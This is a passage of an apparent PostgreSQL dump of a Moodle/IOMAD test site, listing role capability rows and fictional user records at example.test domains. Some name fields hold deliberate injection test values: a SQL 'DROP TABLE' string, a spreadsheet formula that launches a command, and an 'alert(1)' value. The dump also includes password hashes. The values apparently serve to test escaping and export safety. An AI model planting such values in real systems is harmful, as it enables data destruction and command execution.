1796	1	4	gradeexport/ods:view	1	1795226025	0
1797	1	3	gradeexport/ods:view	1	1795226025	0
1798	1	1	gradeexport/ods:view	1	1795226025	0
1799	1	1	gradeexport/ods:publish	1	1795226025	0
1800	1	4	gradeexport/txt:view	1	1795226025	0
1801	1	3	gradeexport/txt:view	1	1795226025	0
1802	1	1	gradeexport/txt:view	1	1795226025	0
1803	1	1	gradeexport/txt:publish	1	1795226025	0
1804	1	4	gradeexport/xls:view	1	1795226025	0
1805	1	3	gradeexport/xls:view	1	1795226025	0
1806	1	1	gradeexport/xls:view	1	1795226025	0
1807	1	1	gradeexport/xls:publish	1	1795226025	0
1808	1	4	gradeexport/xml:view	1	1795226025	0
1809	1	3	gradeexport/xml:view	1	1795226025	0
1810	1	1	gradeexport/xml:view	1	1795226025	0
1811	1	1	gradeexport/xml:publish	1	1795226026	0
1812	1	3	gradeimport/csv:view	1	1795226026	0
1813	1	1	gradeimport/csv:view	1	1795226026	0
1814	1	3	gradeimport/direct:view	1	1795226026	0
1815	1	1	gradeimport/direct:view	1	1795226026	0
1816	1	3	gradeimport/xml:view	1	1795226026	0
1817	1	1	gradeimport/xml:view	1	1795226026	0
1818	1	1	gradeimport/xml:publish	1	1795226026	0
1819	1	4	gradereport/grader:view	1	1795226026	0
1820	1	3	gradereport/grader:view	1	1795226026	0
1821	1	12	gradereport/grader:view	1	1795226026	0
1822	1	13	gradereport/grader:view	1	1795226026	0
1823	1	1	gradereport/grader:view	1	1795226026	0
1824	1	4	gradereport/history:view	1	1795226027	0
1825	1	3	gradereport/history:view	1	1795226027	0
1826	1	12	gradereport/history:view	1	1795226027	0
1827	1	13	gradereport/history:view	1	1795226027	0
1828	1	1	gradereport/history:view	1	1795226027	0
1829	1	4	gradereport/outcomes:view	1	1795226027	0
1830	1	3	gradereport/outcomes:view	1	1795226027	0
1831	1	1	gradereport/outcomes:view	1	1795226027	0
1832	1	7	gradereport/overview:view	1	1795226027	0
1833	1	3	gradereport/singleview:view	1	1795226027	0
1834	1	1	gradereport/singleview:view	1	1795226027	0
1835	1	3	gradereport/summary:view	1	1795226028	0
1836	1	4	gradereport/summary:view	1	1795226028	0
1837	1	1	gradereport/summary:view	1	1795226028	0
1838	1	5	gradereport/user:view	1	1795226028	0
1839	1	4	gradereport/user:view	1	1795226028	0
1840	1	3	gradereport/user:view	1	1795226028	0
1841	1	12	gradereport/user:view	1	1795226028	0
1842	1	13	gradereport/user:view	1	1795226028	0
1843	1	1	gradereport/user:view	1	1795226028	0
1844	1	7	repository/areafiles:view	1	1795226029	0
1845	1	2	repository/contentbank:view	1	1795226029	0
1846	1	3	repository/contentbank:view	1	1795226029	0
1847	1	1	repository/contentbank:view	1	1795226029	0
1848	1	2	repository/contentbank:accesscoursecontent	1	1795226029	0
1849	1	3	repository/contentbank:accesscoursecontent	1	1795226029	0
1850	1	1	repository/contentbank:accesscoursecontent	1	1795226029	0
1851	1	2	repository/contentbank:accesscoursecategorycontent	1	1795226029	0
1852	1	1	repository/contentbank:accesscoursecategorycontent	1	1795226029	0
1853	1	7	repository/contentbank:accessgeneralcontent	1	1795226029	0
1854	1	2	repository/coursefiles:view	1	1795226029	0
1855	1	4	repository/coursefiles:view	1	1795226029	0
1856	1	3	repository/coursefiles:view	1	1795226029	0
1857	1	1	repository/coursefiles:view	1	1795226030	0
1858	1	7	repository/dropbox:view	1	1795226030	0
1859	1	7	repository/equella:view	1	1795226030	0
1860	1	2	repository/filesystem:view	1	1795226030	0
1861	1	4	repository/filesystem:view	1	1795226030	0
1862	1	3	repository/filesystem:view	1	1795226030	0
1863	1	1	repository/filesystem:view	1	1795226030	0
1864	1	7	repository/flickr:view	1	1795226030	0
1865	1	7	repository/flickr_public:view	1	1795226031	0
1866	1	7	repository/googledocs:view	1	1795226031	0
1867	1	2	repository/local:view	1	1795226031	0
1868	1	4	repository/local:view	1	1795226031	0
1869	1	3	repository/local:view	1	1795226031	0
1870	1	1	repository/local:view	1	1795226031	0
1871	1	7	repository/merlot:view	1	1795226031	0
1872	1	7	repository/nextcloud:view	1	1795226031	0
1873	1	7	repository/onedrive:view	1	1795226031	0
1874	1	7	repository/recent:view	1	1795226032	0
1875	1	7	repository/s3:view	1	1795226032	0
1876	1	7	repository/upload:view	1	1795226032	0
1877	1	7	repository/url:view	1	1795226032	0
1878	1	7	repository/user:view	1	1795226032	0
1879	1	2	repository/webdav:view	1	1795226032	0
1880	1	4	repository/webdav:view	1	1795226032	0
1881	1	3	repository/webdav:view	1	1795226032	0
1882	1	1	repository/webdav:view	1	1795226032	0
1883	1	7	repository/wikimedia:view	1	1795226033	0
1884	1	7	repository/youtube:view	1	1795226033	0
1885	1	3	moodle/question:commentmine	1	1795226034	0
1886	1	1	moodle/question:commentmine	1	1795226034	0
1887	1	3	moodle/question:commentall	1	1795226034	0
1888	1	1	moodle/question:commentall	1	1795226034	0
1889	1	1	qbank/customfields:changelockedcustomfields	1	1795226034	0
1890	1	3	qbank/customfields:viewhiddencustomfields	1	1795226034	0
1891	1	1	qbank/customfields:viewhiddencustomfields	1	1795226034	0
1892	1	4	tool/brickfield:viewcoursetools	1	1795226038	0
1893	1	3	tool/brickfield:viewcoursetools	1	1795226038	0
1894	1	1	tool/brickfield:viewcoursetools	1	1795226038	0
1895	1	1	tool/brickfield:viewsystemtools	1	1795226038	0
1896	1	1	tool/customlang:view	1	1795226039	0
1897	1	1	tool/customlang:edit	1	1795226039	0
1898	1	1	tool/customlang:export	1	1795226039	0
1899	1	7	tool/dataprivacy:downloadownrequest	1	1795226039	0
1900	1	7	tool/dataprivacy:requestdelete	1	1795226039	0
1901	1	1	tool/iomadmerge:iomadmerge	1	1795226041	0
1902	1	7	tool/iomadpolicy:accept	1	1795226041	0
1903	1	1	tool/iomadpolicy:managedocs	1	1795226041	0
1904	1	1	tool/iomadpolicy:viewacceptances	1	1795226041	0
1905	1	1	tool/lpmigrate:frameworksmigrate	1	1795226042	0
1906	1	4	tool/monitor:subscribe	1	1795226043	0
1907	1	3	tool/monitor:subscribe	1	1795226043	0
1908	1	1	tool/monitor:subscribe	1	1795226043	0
1909	1	4	tool/monitor:managerules	1	1795226043	0
1910	1	3	tool/monitor:managerules	1	1795226043	0
1911	1	1	tool/monitor:managerules	1	1795226043	0
1912	1	1	tool/monitor:managetool	1	1795226043	0
1913	1	7	tool/policy:accept	1	1795226043	0
1914	1	1	tool/policy:managedocs	1	1795226044	0
1915	1	1	tool/policy:viewacceptances	1	1795226044	0
1916	1	3	tool/recyclebin:deleteitems	1	1795226044	0
1917	1	1	tool/recyclebin:deleteitems	1	1795226044	0
1918	1	3	tool/recyclebin:restoreitems	1	1795226044	0
1919	1	1	tool/recyclebin:restoreitems	1	1795226044	0
1920	1	4	tool/recyclebin:viewitems	1	1795226044	0
1921	1	3	tool/recyclebin:viewitems	1	1795226044	0
1922	1	1	tool/recyclebin:viewitems	1	1795226044	0
1923	1	1	tool/uploaduser:uploaduserpictures	1	1795226045	0
1924	1	1	tool/usertours:managetours	1	1795226045	0
1925	1	1	contenttype/h5p:access	1	1795226046	0
1926	1	2	contenttype/h5p:access	1	1795226047	0
1927	1	3	contenttype/h5p:access	1	1795226047	0
1928	1	1	contenttype/h5p:upload	1	1795226047	0
1929	1	2	contenttype/h5p:upload	1	1795226047	0
1930	1	3	contenttype/h5p:upload	1	1795226047	0
1931	1	1	contenttype/h5p:useeditor	1	1795226047	0
1932	1	2	contenttype/h5p:useeditor	1	1795226047	0
1933	1	3	contenttype/h5p:useeditor	1	1795226047	0
1934	1	10	local/email:list	1	1795226048	0
1935	1	9	local/email:list	1	1795226048	0
1936	1	10	local/email:edit	1	1795226048	0
1937	1	9	local/email:edit	1	1795226048	0
1938	1	9	local/email:delete	1	1795226048	0
1939	1	9	local/email:add	1	1795226048	0
1940	1	9	local/email:send	1	1795226048	0
1941	1	9	local/email:templateset_list	1	1795226048	0
1942	1	10	local/iomad_learningpath:view	1	1795226049	0
1943	1	11	local/iomad_learningpath:view	1	1795226049	0
1944	1	9	local/iomad_learningpath:view	1	1795226049	0
1945	1	10	local/iomad_learningpath:manage	1	1795226049	0
1946	1	11	local/iomad_learningpath:manage	1	1795226049	0
1947	1	9	local/iomad_learningpath:manage	1	1795226049	0
1948	1	1	local/iomad_track:importfrommoodle	1	1795226050	0
1949	1	10	local/report_attendance:view	1	1795226050	0
1950	1	11	local/report_attendance:view	1	1795226050	0
1951	1	9	local/report_attendance:view	1	1795226050	0
1952	1	14	local/report_attendance:view	1	1795226050	0
1953	1	15	local/report_attendance:view	1	1795226050	0
1954	1	9	local/report_companies:view	1	1795226050	0
1955	1	14	local/report_companies:view	1	1795226050	0
1956	1	10	local/report_completion:view	1	1795226050	0
1957	1	11	local/report_completion:view	1	1795226050	0
1958	1	9	local/report_completion:view	1	1795226050	0
1959	1	14	local/report_completion:view	1	1795226050	0
1960	1	15	local/report_completion:view	1	1795226050	0
1961	1	10	local/report_completion_monthly:view	1	1795226051	0
1962	1	11	local/report_completion_monthly:view	1	1795226051	0
1963	1	9	local/report_completion_monthly:view	1	1795226051	0
1964	1	10	local/report_completion_overview:view	1	1795226051	0
1965	1	11	local/report_completion_overview:view	1	1795226051	0
1966	1	9	local/report_completion_overview:view	1	1795226051	0
1967	1	14	local/report_completion_overview:view	1	1795226051	0
1968	1	15	local/report_completion_overview:view	1	1795226051	0
1969	1	10	local/report_emails:view	1	1795226051	0
1970	1	11	local/report_emails:view	1	1795226051	0
1971	1	9	local/report_emails:view	1	1795226052	0
1972	1	10	local/report_emails:resend	1	1795226052	0
1973	1	11	local/report_emails:resend	1	1795226052	0
1974	1	9	local/report_emails:resend	1	1795226052	0
1975	1	10	local/report_license_usage:view	1	1795226052	0
1976	1	11	local/report_license_usage:view	1	1795226052	0
1977	1	9	local/report_license_usage:view	1	1795226052	0
1978	1	14	local/report_license_usage:view	1	1795226052	0
1979	1	15	local/report_license_usage:view	1	1795226052	0
1980	1	10	local/report_user_license_allocations:view	1	1795226053	0
1981	1	11	local/report_user_license_allocations:view	1	1795226053	0
1982	1	9	local/report_user_license_allocations:view	1	1795226053	0
1983	1	14	local/report_user_license_allocations:view	1	1795226053	0
1984	1	15	local/report_user_license_allocations:view	1	1795226053	0
1985	1	10	local/report_user_logins:view	1	1795226053	0
1986	1	11	local/report_user_logins:view	1	1795226053	0
1987	1	9	local/report_user_logins:view	1	1795226053	0
1988	1	14	local/report_user_logins:view	1	1795226053	0
1989	1	15	local/report_user_logins:view	1	1795226053	0
1990	1	10	local/report_users:view	1	1795226054	0
1991	1	11	local/report_users:view	1	1795226054	0
1992	1	9	local/report_users:view	1	1795226054	0
1993	1	14	local/report_users:view	1	1795226054	0
1994	1	15	local/report_users:view	1	1795226054	0
1995	1	9	local/report_users:deleteentries	1	1795226054	0
1996	1	9	local/report_users:deleteentriesfull	1	1795226054	0
1997	1	9	local/report_users:clearentries	1	1795226054	0
1998	1	9	local/report_users:addentry	1	1795226054	0
1999	1	9	local/report_users:redocertificates	1	1795226054	0
2000	1	9	local/report_users:updateentries	1	1795226054	0
2001	1	3	booktool/importhtml:import	1	1795226056	0
2002	1	12	booktool/importhtml:import	1	1795226056	0
2003	1	1	booktool/importhtml:import	1	1795226056	0
2004	1	6	booktool/print:print	1	1795226057	0
2005	1	8	booktool/print:print	1	1795226057	0
2006	1	5	booktool/print:print	1	1795226057	0
2007	1	4	booktool/print:print	1	1795226057	0
2008	1	3	booktool/print:print	1	1795226057	0
2009	1	12	booktool/print:print	1	1795226057	0
2010	1	13	booktool/print:print	1	1795226057	0
2011	1	1	booktool/print:print	1	1795226057	0
2012	1	4	forumreport/summary:view	1	1795226059	0
2013	1	3	forumreport/summary:view	1	1795226059	0
2014	1	1	forumreport/summary:view	1	1795226059	0
2015	1	4	forumreport/summary:viewall	1	1795226059	0
2016	1	3	forumreport/summary:viewall	1	1795226059	0
2017	1	1	forumreport/summary:viewall	1	1795226059	0
2018	1	4	quiz/grading:viewstudentnames	1	1795226060	0
2019	1	3	quiz/grading:viewstudentnames	1	1795226060	0
2020	1	1	quiz/grading:viewstudentnames	1	1795226060	0
2021	1	4	quiz/grading:viewidnumber	1	1795226060	0
2022	1	3	quiz/grading:viewidnumber	1	1795226060	0
2023	1	1	quiz/grading:viewidnumber	1	1795226060	0
2024	1	4	quiz/statistics:view	1	1795226061	0
2025	1	3	quiz/statistics:view	1	1795226061	0
2026	1	1	quiz/statistics:view	1	1795226061	0
2027	1	1	quizaccess/seb:managetemplates	1	1795226062	0
2028	1	1	quizaccess/seb:bypassseb	1	1795226062	0
2029	1	3	quizaccess/seb:bypassseb	1	1795226062	0
2030	1	1	quizaccess/seb:manage_seb_requiresafeexambrowser	1	1795226062	0
2031	1	3	quizaccess/seb:manage_seb_requiresafeexambrowser	1	1795226062	0
2032	1	1	quizaccess/seb:manage_seb_templateid	1	1795226062	0
2033	1	3	quizaccess/seb:manage_seb_templateid	1	1795226062	0
2034	1	1	quizaccess/seb:manage_filemanager_sebconfigfile	1	1795226062	0
2035	1	3	quizaccess/seb:manage_filemanager_sebconfigfile	1	1795226062	0
2036	1	1	quizaccess/seb:manage_seb_showsebdownloadlink	1	1795226062	0
2037	1	3	quizaccess/seb:manage_seb_showsebdownloadlink	1	1795226062	0
2038	1	1	quizaccess/seb:manage_seb_allowedbrowserexamkeys	1	1795226062	0
2039	1	3	quizaccess/seb:manage_seb_allowedbrowserexamkeys	1	1795226062	0
2040	1	1	quizaccess/seb:manage_seb_linkquitseb	1	1795226063	0
2041	1	3	quizaccess/seb:manage_seb_linkquitseb	1	1795226063	0
2042	1	1	quizaccess/seb:manage_seb_userconfirmquit	1	1795226063	0
2043	1	3	quizaccess/seb:manage_seb_userconfirmquit	1	1795226063	0
2044	1	1	quizaccess/seb:manage_seb_allowuserquitseb	1	1795226063	0
2045	1	3	quizaccess/seb:manage_seb_allowuserquitseb	1	1795226063	0
2046	1	1	quizaccess/seb:manage_seb_quitpassword	1	1795226063	0
2047	1	3	quizaccess/seb:manage_seb_quitpassword	1	1795226063	0
2048	1	1	quizaccess/seb:manage_seb_allowreloadinexam	1	1795226063	0
2084	1	7	webservice/rest:use	1	1793524382	2
2049	1	3	quizaccess/seb:manage_seb_allowreloadinexam	1	1795226063	0
2050	1	1	quizaccess/seb:manage_seb_showsebtaskbar	1	1795226063	0
2051	1	3	quizaccess/seb:manage_seb_showsebtaskbar	1	1795226063	0
2052	1	1	quizaccess/seb:manage_seb_showreloadbutton	1	1795226063	0
2053	1	3	quizaccess/seb:manage_seb_showreloadbutton	1	1795226063	0
2054	1	1	quizaccess/seb:manage_seb_showtime	1	1795226063	0
2055	1	3	quizaccess/seb:manage_seb_showtime	1	1795226063	0
2056	1	1	quizaccess/seb:manage_seb_showkeyboardlayout	1	1795226063	0
2057	1	3	quizaccess/seb:manage_seb_showkeyboardlayout	1	1795226063	0
2058	1	1	quizaccess/seb:manage_seb_showwificontrol	1	1795226063	0
2059	1	3	quizaccess/seb:manage_seb_showwificontrol	1	1795226063	0
2060	1	1	quizaccess/seb:manage_seb_enableaudiocontrol	1	1795226063	0
2061	1	3	quizaccess/seb:manage_seb_enableaudiocontrol	1	1795226064	0
2062	1	1	quizaccess/seb:manage_seb_muteonstartup	1	1795226064	0
2063	1	3	quizaccess/seb:manage_seb_muteonstartup	1	1795226064	0
2064	1	1	quizaccess/seb:manage_seb_allowspellchecking	1	1795226064	0
2065	1	3	quizaccess/seb:manage_seb_allowspellchecking	1	1795226064	0
2066	1	1	quizaccess/seb:manage_seb_activateurlfiltering	1	1795226064	0
2067	1	3	quizaccess/seb:manage_seb_activateurlfiltering	1	1795226064	0
2068	1	1	quizaccess/seb:manage_seb_filterembeddedcontent	1	1795226064	0
2069	1	3	quizaccess/seb:manage_seb_filterembeddedcontent	1	1795226064	0
2070	1	1	quizaccess/seb:manage_seb_expressionsallowed	1	1795226064	0
2071	1	3	quizaccess/seb:manage_seb_expressionsallowed	1	1795226064	0
2072	1	1	quizaccess/seb:manage_seb_regexallowed	1	1795226064	0
2073	1	3	quizaccess/seb:manage_seb_regexallowed	1	1795226064	0
2074	1	1	quizaccess/seb:manage_seb_expressionsblocked	1	1795226064	0
2075	1	3	quizaccess/seb:manage_seb_expressionsblocked	1	1795226064	0
2076	1	1	quizaccess/seb:manage_seb_regexblocked	1	1795226064	0
2077	1	3	quizaccess/seb:manage_seb_regexblocked	1	1795226064	0
2078	1	3	atto/h5p:addembed	1	1795226067	0
2079	1	7	atto/recordrtc:recordaudio	1	1795226068	0
2080	1	7	atto/recordrtc:recordvideo	1	1795226068	0
2081	1	3	tiny/h5p:addembed	1	1795226069	0
2082	1	7	tiny/recordrtc:recordaudio	1	1795226069	0
2083	1	7	tiny/recordrtc:recordvideo	1	1795226069	0
\.


--
-- Data for Name: mdl_user; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_user (id, auth, confirmed, policyagreed, deleted, suspended, mnethostid, username, password, idnumber, firstname, lastname, email, emailstop, phone1, phone2, institution, department, address, city, country, lang, calendartype, theme, timezone, firstaccess, lastaccess, lastlogin, currentlogin, lastip, secret, picture, description, descriptionformat, mailformat, maildigest, maildisplay, autosubscribe, trackforums, timecreated, timemodified, trustbitmask, imagealt, lastnamephonetic, firstnamephonetic, middlename, alternatename, moodlenetprofile) FROM stdin;
1	manual	1	0	0	0	1	guest	$2y$10$l3dJ6XjbeqI8NUschXdREezDiERlILve5tXPKIqdI/JohWqfOZDJu		Guest user	 	root@localhost	0								en	gregorian		99	0	0	0	0			0	This user is a special user that allows read-only access to some courses.	1	1	0	2	1	0	0	1795225893	0	\N	\N	\N	\N	\N	\N
2	manual	1	0	0	0	1	admin	$2y$10$wGs0KINMqSYUdUiluT3BAO7D6X/ObD514FgXEQ9aoKeX0yAn/.q7y		Admin	User	admin@example.test	0								en	gregorian		99	0	1788249692	0	0	0.0.0.0		0	\N	1	1	0	1	1	0	0	1795225893	0	\N	\N	\N	\N	\N	\N
12	manual	1	0	0	0	1	user010		E10	Judy	Khan	user010@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426315	1788426315	0	\N	中村	Eliška	Olivia	秀英	\N
3	manual	1	0	0	0	1	user001		E1	Alice	Smith	user001@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426000	1788426000	0	\N	Петрова	Hanna	さくら	Michael	\N
8	manual	1	0	0	0	1	user006		E6	Frank	Rossi	user006@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426175	1788426175	0	\N	吳	颯太	Hanna	William	\N
4	manual	1	0	0	0	1	user002		E2	Bob	Novák	user002@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426035	1788426035	0	\N	Johnson	Tereza	美咲	Paul	\N
23	manual	1	0	0	0	1	user021		E21	Alice	Smith	user021@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426700	1788426700	0	\N	Novotný	Paul	Luca	翔太	\N
18	manual	1	0	0	0	1	user016		E16	山田	太郎	user016@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426525	1788426525	0	\N	田中	翔	さくら	Даниил	\N
9	manual	1	0	0	0	1	user007		E7	Grace	Silva	user007@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426210	1788426210	0	\N	Jones	颯太	Jayden	Ava	\N
6	manual	1	0	0	0	1	user004		E4	Zoë 😀👩‍👩‍👧	Grün-Łódź	user004@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426105	1788426105	0	\N	Davis	伟	Leonie	Timm	\N
5	manual	1	0	0	1	1	user003		E3	Carol	Nguyen	user003@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426070	1788426070	0	\N	黃	Karolína	娜	翔	\N
7	manual	1	0	0	0	1	user005		E5	Eve	García	user005@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426140	1788426140	0	\N	Černý	秀英	София	Leah	\N
10	manual	1	0	0	0	1	user008		E8	مريم	الهاشمي	user008@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426245	1788426245	0	\N	刘	Isabella	Lukáš	Timm	\N
16	manual	1	0	0	0	1	user014		E14	Peggy	Kowalski	user014@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426455	1788426455	0	\N	Jones	Leah	Lukáš	秀英	\N
11	manual	1	0	0	0	1	user009		E9	Ivan	Ivanov	user009@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426280	1788426280	0	\N	Wagner	葵	伟	Артем	\N
14	manual	1	0	1	0	1	user012@acme.example.test.1793523780			דָּוִד	כהן	9a3e49c2acb757ec2d30b66fbff2da03	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426385	1793523780	0	\N	Hoffmann	Lena	伟	さくら	\N
21	manual	1	0	0	0	1	user019		E19	Victor	Ivanov	user019@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426630	1788426630	0	\N	Novotný	伟	Даниил	Paul	\N
17	manual	1	0	0	0	1	user015		E15	Rupert	García	user015@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426490	1788426490	0	\N	Veselá	Leonie	Leon	Ethan	\N
15	manual	1	0	0	0	1	user013		E13	Olivia	Nguyen	user013@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426420	1788426420	0	\N	吳	Luca	Tomáš	娜	\N
20	manual	1	0	0	0	1	user018		E18	Uma	Müller	user018@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426595	1788426595	0	\N	Smith	Дарья	伟	Adéla	\N
19	manual	1	0	0	0	1	user017		E17	Trent	Silva	user017@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426560	1788426560	0	\N	Кузнецов	Ethan	翔太	拓海	\N
22	manual	1	0	0	0	1	user020		E20	Wendy	Khan	user020@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426665	1788426665	0	\N	Meyer	美咲	伟	伟	\N
24	manual	1	0	0	0	1	user022		E22	O'Brien	D"Arcy \\ backslash	user022@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426735	1788426735	0	\N	黃	芳	Eliška	Ethan	\N
25	manual	1	0	0	0	1	user023		E23	Carol	Nguyen	user023@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426770	1788426770	0	\N	Wagner	Sophia	芳	Emma	\N
13	manual	1	0	0	1	1	user011		E11	Mallory	Smith	user011@acme.example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426350	1793523599	0	\N	楊	Lena	娜	Paul	\N
26	manual	1	0	0	0	1	user024		E24	Dan	Kowalski	user024@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426805	1788426805	0	\N	Schmidt	Paul	Анастасия	Olivia	\N
40	manual	1	0	0	0	1	user038		E38	alert(1)		user038@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427295	1788427295	0	\N	Кузнецов	Lena	Adéla	Eliška	\N
27	manual	1	0	0	0	1	user025		E25	Eve	García	user025@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426840	1788426840	0	\N	Veselá	Анастасия	Дарья	Adéla	\N
37	manual	1	0	0	0	1	user035		E35	Rupert	García	user035@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427190	1788427190	0	\N	Williams	Дарья	Eliška	Александр	\N
28	manual	1	0	0	0	1	user026		E26	Robert'); DROP TABLE mdl_user;--	Tables	user026@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426875	1788426875	0	\N	Hoffmann	Мария	葵	Paul	\N
29	manual	1	0	0	0	1	user027		E27	Grace	Silva	user027@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426910	1788426910	0	\N	Davis	Laura	美羽	大翔	\N
34	manual	1	0	0	0	1	user032		E32	Niaj	Novák	user032@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427085	1788427085	0	\N	李	翔太	秀英	Jayden	\N
30	manual	1	0	0	0	1	user028		E28	Heidi	Müller	user028@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426945	1788426945	0	\N	田中	Timm	Максим	Jacob	\N
33	manual	1	0	0	0	1	user031		E31	Mallory	Smith	user031@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427050	1788427050	0	\N	Williams	秀英	秀英	Ava	\N
38	manual	1	0	0	0	1	user036		E36	Sybil	Rossi	user036@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427225	1788427225	0	\N	Schulz	葵	伟	秀英	\N
35	manual	1	0	0	0	1	user033		E33	Olivia	Nguyen	user033@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427120	1788427120	0	\N	趙	Даниил	敏	美羽	\N
46	manual	1	0	0	0	1	user044		E44	Dan	Kowalski	user044@unicode.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427505	1788427505	0	\N	Procházková	Даниил	Olivia	Ava	\N
36	manual	1	0	0	0	1	user034		E34	+cmd|' /C calc'!A0	-2+3	user034@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427155	1788427155	0	\N	Schneider	Timm	Полина	拓海	\N
41	manual	1	0	0	0	1	user039		E39	Victor	Ivanov	user039@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427330	1788427330	0	\N	Becker	Karolína	伟	Paul	\N
39	manual	1	0	0	0	1	user037		E37	Trent	Silva	user037@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427260	1788427260	0	\N	Brown	秀英	敏	秀英	\N
44	manual	1	0	0	0	1	user042		E42	ЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖЖ	éééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé	user042@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427435	1788427435	0	\N	吳	芳	芳	Leonie	\N
43	manual	1	0	0	0	1	user041		E41	Alice	Smith	user041@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427400	1788427400	0	\N	陈	娜	翔太	Jacob	\N
42	manual	1	0	0	0	1	user040		E40	Wendy	Khan	user040@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427365	1788427365	0	\N	Schneider	Иван	Paul	Isabella	\N
